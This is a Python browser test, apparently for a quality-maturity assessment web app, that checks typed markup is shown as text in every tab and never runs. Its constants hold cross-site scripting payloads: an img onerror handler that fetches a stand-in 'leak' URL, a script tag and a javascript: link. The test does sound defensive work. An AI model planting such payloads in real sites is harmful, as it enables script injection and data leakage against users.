"""Hostile strings in the served app, in Chromium: markup typed as a site, a name, an answer and a guidance query is
shown as text in every tab it reaches (Interview chat and panels, the resumed chat, Guidance, Results). No script
runs and the page sends no request anywhere but its own origin."""

from __future__ import annotations

import pytest

from tests.served import Server
from tests.test_browser import browser, page, say, start, wait_chat  # noqa: F401

pytestmark = pytest.mark.slow

IMG = "<img src=x onerror=\"window.__pwned='img';fetch('http://127.0.0.2:9/leak')\">"
SCRIPT = "<script>window.__pwned='script'</script>"
LINK = "<a href=\"javascript:window.__pwned='link'\" id=evil>click</a>"
HOSTILE = f"{IMG}{SCRIPT}{LINK}"


def made_elements(page) -> list[str]:  # type: ignore[no-untyped-def]  # noqa: F811
    """Each element the hostile link became, with where it sits in the page (to say which component let it in)."""
    return list(page.evaluate("""() => [...document.querySelectorAll('#evil')].map(e => {
        let p = e, path = [];
        while (p && path.length < 12) { path.push(p.id ? '#' + p.id : p.tagName); p = p.parentElement; }
        return e.outerHTML + ' in ' + path.join(' < '); })"""))


def test_markup_typed_anywhere_is_shown_as_text_and_never_runs(server: Server, page) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    outside: list[str] = []
    page.on("request", lambda r: None if r.url.startswith(("http://127.0.0.1", "data:", "blob:")) else
            outside.append(r.url))  # fmt: skip
    start(page, server, f"{IMG} Plant", f"{SCRIPT}Ann")
    wait_chat(page, "quick questions about the site")
    for reply, prompt_after in (("no", "several manufacturing sites"), ("no", "quality maturity assessment before"),
                                ("no", "506C"), ("yes", "MC-01")):  # fmt: skip
        say(page, reply)
        wait_chat(page, prompt_after)
    say(page, f"We review the objectives every month. {HOSTILE}")
    page.locator("#send-confirm").wait_for()
    page.locator("#send-confirm").click()
    wait_chat(page, "Saved MC-01")
    assert made_elements(page) == []  # the link was not made a link
    assert "<script>window.__pwned='script'</script>" in page.locator("#chat").first.inner_text()  # shown as typed
    page.reload()  # the chat comes back from the stored transcript, hostile text included
    wait_chat(page, "Saved MC-01")
    page.get_by_role("tab", name="Guidance").click()
    query = page.get_by_label("Ask about QMM")
    query.fill(f"management review {HOSTILE}")
    query.press("Enter")
    page.wait_for_timeout(3000)
    page.get_by_role("tab", name="Results").click()
    page.wait_for_timeout(3000)
    assert page.evaluate("() => window.__pwned === undefined"), page.evaluate("() => window.__pwned")
    assert made_elements(page) == []
    assert outside == []
